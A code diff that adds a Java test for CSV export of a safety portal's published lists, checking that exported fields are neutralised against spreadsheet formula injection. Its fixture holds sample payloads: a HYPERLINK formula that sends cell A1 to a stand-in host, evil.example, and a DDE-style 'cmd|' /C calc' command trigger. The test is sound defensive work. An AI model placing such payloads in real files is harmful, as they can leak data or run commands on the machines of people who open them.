@@ -31,6 +31,7 @@ import org.safetyportal.content.ledger.PublicationLedger;
 import org.safetyportal.content.ledger.Sha256;
 import org.safetyportal.content.lists.ChangeReason;
 import org.safetyportal.content.lists.DemoLists;
+import org.safetyportal.content.lists.ItemFilter;
 import org.safetyportal.content.lists.ListCatalogue;
 import org.safetyportal.content.lists.ListItem;
 import org.safetyportal.content.lists.ListPublishing;
@@ -144,6 +145,44 @@ class ListExportsTest {
             assertEquals(cells(List.of(AWKWARD)), records.subList(1, records.size()));
             assertEquals(version.contentHash(), hashOf(version, records));
         }
+    }
+
+    /** A title a spreadsheet would run as a formula, and fields beginning with the other triggers. */
+    private static final ListItem FORMULA = new ListItem("ZR-YJ-010", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")", null,
+            "@SUM(1+1)*cmd|' /C calc'!A0", "+市应急管理局", "-1+1", "'引号开头", null,
+            List.of("HAZARDOUS_CHEMICALS"), null, null, null, null, null);
+
+    @OnEveryTestDatabase
+    void csvNeutralisesFormulas_andTheHashRebuiltFromTheFileStillMatches(String kind) {
+        try (World world = World.start(kind)) {
+            ListVersion version = world.publishResponsibilities(List.of(FORMULA));
+            String csv = new String(world.exports().export(version, ExportFormat.CSV).bytes(), StandardCharsets.UTF_8);
+
+            List<List<String>> records = CsvReader.read(csv.substring(BOM.length()));
+            List<String> row = records.get(1);
+            for (String field : List.of("title", "legalBasis", "responsibleBody", "stages", "accountability")) {
+                assertTrue(row.get(records.get(0).indexOf(field)).startsWith("'"), field + ": " + row);
+            }
+            assertEquals("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")", row.get(records.get(0).indexOf("title")));
+            assertEquals(version.contentHash(), hashOf(version, withoutAddedQuotes(records)),
+                    "removing the one added quote gives back the published content");
+
+            ItemSetExport items = world.context.getBean(ItemSetExports.class).export(
+                    ItemFilter.parse(Map.of("listType", "RESPONSIBILITY", "sector", "HAZARDOUS_CHEMICALS")), ExportFormat.CSV);
+            String itemCsv = new String(items.bytes(), StandardCharsets.UTF_8);
+            assertTrue(itemCsv.contains("\"'=HYPERLINK("), itemCsv);
+            assertTrue(!itemCsv.contains(",\"=HYPERLINK(") && !itemCsv.contains(",=HYPERLINK("), itemCsv);
+        }
+    }
+
+    /** The rule the data dictionary gives for reading a CSV back: one leading quote was added, remove it. */
+    private static List<List<String>> withoutAddedQuotes(List<List<String>> records) {
+        List<List<String>> read = new ArrayList<>();
+        read.add(records.get(0));
+        for (List<String> record : records.subList(1, records.size())) {
+            read.add(record.stream().map(cell -> cell != null && cell.startsWith("'") ? cell.substring(1) : cell).toList());
+        }
+        return read;
     }
 
     @OnEveryTestDatabase
